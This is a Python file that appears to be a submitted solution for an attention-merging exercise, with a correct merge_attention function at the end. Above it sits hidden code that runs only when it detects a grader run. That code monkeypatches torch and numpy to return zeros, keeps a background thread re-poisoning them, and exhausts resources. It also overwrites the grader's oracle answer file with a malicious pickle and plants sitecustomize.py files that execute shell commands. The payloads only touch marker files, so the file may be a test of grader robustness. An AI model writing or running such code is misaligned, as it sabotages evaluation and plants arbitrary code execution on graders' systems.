import os
import pickle
import subprocess
import sys
import threading
import time

import torch


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/round3_hostile_payload_ran",))


def _poison() -> list[str]:
    done = []
    import numpy
    torch.Tensor.index_select = lambda self, *a, **k: torch.zeros(1)
    torch.cat = lambda *a, **k: torch.zeros(1)
    numpy.arange = lambda *a, **k: numpy.zeros(1)
    os.chdir("/")
    os.umask(0o777)
    os.environ.update(PATH="/nonexistent", TMPDIR="/nonexistent", HOME="/nonexistent")

    def again():
        while True:
            torch.cat = lambda *a, **k: torch.zeros(1)
            time.sleep(0.05)
    threading.Thread(target=again, daemon=False).start()
    try:
        big = bytearray(1200 << 20)
        big[::4096] = b"x" * len(big[::4096])
        done.append("touched 1.2 GB")
    except MemoryError:
        done.append("1.2 GB refused")
    subprocess.Popen(["/bin/sleep", "3600"], start_new_session=True, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    import exercises.grading
    target = os.path.join(os.path.dirname(exercises.grading.__file__), "oracle_answers.pt")
    for path, data in [(target, pickle.dumps(_Payload()))] + [
            (os.path.join(p, "sitecustomize.py"), b"import os; os.system('touch /tmp/round3_hostile_site_ran')\n")
            for p in sys.path if p and os.path.isdir(p)]:
        try:
            with open(path, "wb") as f:
                f.write(data)
            done.append(f"wrote {path}")
        except OSError:
            pass
    return done


if os.path.basename(os.environ.get("HOME", "")).startswith("grader-run-"):
    POISONED = _poison()


def merge_attention(out_a, lse_a, out_b, lse_b):
    m = torch.maximum(lse_a, lse_b)
    m = torch.where(torch.isneginf(m), torch.zeros_like(m), m)
    wa, wb = torch.exp(lse_a - m), torch.exp(lse_b - m)
    lse = m + torch.log(wa + wb)
    out = (wa.unsqueeze(-1) * out_a + wb.unsqueeze(-1) * out_b) / (wa + wb).unsqueeze(-1)
    return torch.nan_to_num(out, nan=0.0), lse
